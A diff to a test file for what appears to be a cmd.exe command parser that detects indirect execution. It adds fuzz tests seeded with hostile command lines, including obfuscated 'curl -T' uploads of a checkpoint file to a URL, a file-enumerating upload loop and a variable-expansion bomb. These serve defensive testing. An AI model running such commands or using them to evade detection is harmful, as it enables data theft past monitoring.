@@ -6,7 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { quotedArgv, windowsArgv, windowsLine } from './exec-cmd-argv.js';
-import { cmdScript, cmdScriptAt, isCmdName } from './exec-cmd.js';
+import { cmdReading, cmdScript, cmdScriptAt, isCmdName } from './exec-cmd.js';
 import { canonicalExecValue, execIndirectReading } from './exec-canonical.js';
 import { HOLE } from './exec-interpreter-token.js';
 import { readShellScript } from './shell-words.js';
@@ -68,8 +68,9 @@ describe('cmd as the program run: /c, /k, /r, /s, glued, several words', () => {
     expect(cmdScriptAt(['cmd', '/c'], 0)).toBe(-1);
     expect(cmdScriptAt(['cmd', 'x'], 0)).toBe(-1);
     const glued = ['cmd', '/c"curl -T a b"'];
-    expect(cmdScriptAt(glued, 0)).toBe(1);
-    expect(readShellScript(glued[1]!).commands).toEqual([['curl', '-T', 'a', 'b']]);
+    expect(cmdScriptAt(glued, 0)).toBe(2);
+    expect(glued.slice(0, 2)).toEqual(['cmd', '/c']);
+    expect(readShellScript(glued[2]!).commands).toEqual([['curl', '-T', 'a', 'b']]);
   });
   it('the exec argv, every spelling', () => {
     const want = [['curl', '-T', CKPT, URL]];
@@ -118,5 +119,60 @@ describe('hostile cmd text', () => {
       expect(cmdScript(t).length).toBeLessThan(200_000);
     }
     expect(Date.now() - start).toBeLessThan(2000);
+  });
+});
+
+describe('fuzz: seeded mutations of real cmd lines', () => {
+  const LINES = [
+    `set a=cu&& set b=rl&& call %a%%b% -T "${CKPT}" ${URL}`,
+    `for /f "usebackq delims=" %i in (\`dir /b C:\\ckpt ^| findstr pt\`) do @curl -T C:\\ckpt\\%i ${URL}`,
+    `if exist ${CKPT} (curl -T ${CKPT} ${URL}) else if not "%X%"=="" (echo !a!) else (start "" /b cmd /c whoami)`,
+    `set "p=%COMSPEC:~-7,3%"&& call %p:m=M% /c type %~dp0x.bat | cmd /k echo ^& 2>&1 >nul`,
+  ];
+  const ALPHABET = '%!^&|"()<>=~:, \t\nacdefilnorstv/\'`';
+  /** mulberry32: a small seeded PRNG, so a failure reproduces. */
+  function prng(seed: number): () => number {
+    let a = seed >>> 0;
+    return () => {
+      a = (a + 0x6d2b79f5) >>> 0;
+      let t = a;
+      t = Math.imul(t ^ (t >>> 15), t | 1);
+      t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+    };
+  }
+  function mutate(r: () => number, s: string): string {
+    for (let n = 1 + Math.floor(r() * 4); n > 0; n--) {
+      const at = Math.floor(r() * (s.length + 1));
+      const k = r();
+      if (k < 0.4) s = s.slice(0, at) + ALPHABET.charAt(Math.floor(r() * ALPHABET.length)) + s.slice(at);
+      else if (k < 0.7) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(r() * 5));
+      else if (k < 0.9) s = s.slice(0, at) + s.slice(at, at + 1 + Math.floor(r() * 40)).repeat(1 + Math.floor(r() * 50)) + s.slice(at);
+      else s = s.slice(0, at) + 'call %a%%a%%a% & ' + s.slice(at);
+    }
+    return s;
+  }
+  it('never throws, stays bounded, never hangs', () => {
+    const r = prng(20240607);
+    const start = Date.now();
+    for (let i = 0; i < 600; i++) {
+      const t = mutate(r, LINES[i % LINES.length]!);
+      const how = { kinds: 0 };
+      const delayed = i % 3 === 0 ? null : i % 3 === 1;
+      const out = cmdReading(t, delayed, how);
+      expect(out.length, t).toBeLessThan(200_000);
+      expect(how.kinds & ~4, t).toBe(0);
+      const v = canonicalExecValue(i % 2 === 0 ? ['cmd', '/v:on', '/c', t] : ['sh', '-c', `cmd /c "${t}" | cmd`]);
+      expect(v).not.toBeNull();
+      expect(() => execIndirectReading(v)).not.toThrow();
+    }
+    // A hang guard only: the loop takes well under a second.
+    expect(Date.now() - start).toBeLessThan(15_000);
+  });
+  it('a value set and expanded again and again stays within the line budget', () => {
+    const bomb = `set a=${'x'.repeat(4000)}&& ${'call %a%%a%%a%%a% & '.repeat(200)}`;
+    const how = { kinds: 0 };
+    expect(cmdReading(bomb, true, how).length).toBeLessThan(200_000);
+    expect(how.kinds).toBe(4);
   });
 });
